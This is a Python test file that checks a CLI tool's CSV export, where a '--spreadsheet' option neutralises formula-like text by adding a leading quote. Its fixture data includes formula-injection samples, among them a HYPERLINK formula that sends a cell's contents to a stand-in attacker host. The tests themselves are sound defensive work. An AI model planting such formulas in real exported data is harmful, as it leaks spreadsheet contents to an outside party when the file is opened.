"""`orewire sql --format csv` prints values as stored, for the programs it is piped to; with
``--spreadsheet`` text that begins like a formula gets a leading quote, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pyarrow as pa

from orewire.warehouse import upsert, writer
from tests.cli import orewire

NOW = datetime(2026, 11, 1, tzinfo=UTC)
TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Gold report")', "+1 day", "-2+3", "@SUM(1+1)", "\tTabbed",
          "Copper - a plain title", "a=b"]
QUERY = "SELECT title, -word_count AS minus, -1.5 AS half FROM articles ORDER BY article_id"


def _env(warehouse_env) -> dict[str, str]:
    with writer(warehouse_env) as conn:
        upsert(conn, "articles", pa.table({
            "article_id": [f"trend:{i}" for i in range(len(TITLES))], "source": ["trend"] * len(TITLES),
            "url": [f"u{i}" for i in range(len(TITLES))], "canonical_url": [f"u{i}" for i in range(len(TITLES))],
            "title": TITLES, "text": ["A copper deposit."] * len(TITLES),
            "word_count": pa.array(range(1, len(TITLES) + 1), pa.int32()),
            "first_seen": [NOW] * len(TITLES), "last_seen": [NOW] * len(TITLES),
        }))
    return {"OREWIRE_WAREHOUSE": str(warehouse_env.warehouse), "OREWIRE_STATE": str(warehouse_env.state_dir)}


def _rows(stdout: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(stdout)))[1:]


def test_csv_is_raw_unless_asked_for_a_spreadsheet(warehouse_env) -> None:
    env = _env(warehouse_env)
    raw = orewire(["sql", QUERY, "--format", "csv"], env)
    assert raw.code == 0, raw.stderr
    assert [r[0] for r in _rows(raw.stdout)] == TITLES
    safe = orewire(["sql", QUERY, "--format", "csv", "--spreadsheet"], env)
    assert safe.code == 0, safe.stderr
    rows = _rows(safe.stdout)
    assert [r[0] for r in rows] == ["'" + t for t in TITLES[:5]] + TITLES[5:]
    # Numbers are not text: negative ones are written as numbers, unquoted.
    assert [r[1] for r in rows] == [str(-n) for n in range(1, len(TITLES) + 1)]
    assert {r[2] for r in rows} == {"-1.5"}


def test_spreadsheet_goes_with_csv_only(warehouse_env) -> None:
    env = _env(warehouse_env)
    proc = orewire(["sql", QUERY, "--spreadsheet"], env)
    assert proc.code == 2 and proc.stderr.strip().splitlines() == ["orewire: --spreadsheet goes with --format csv"]
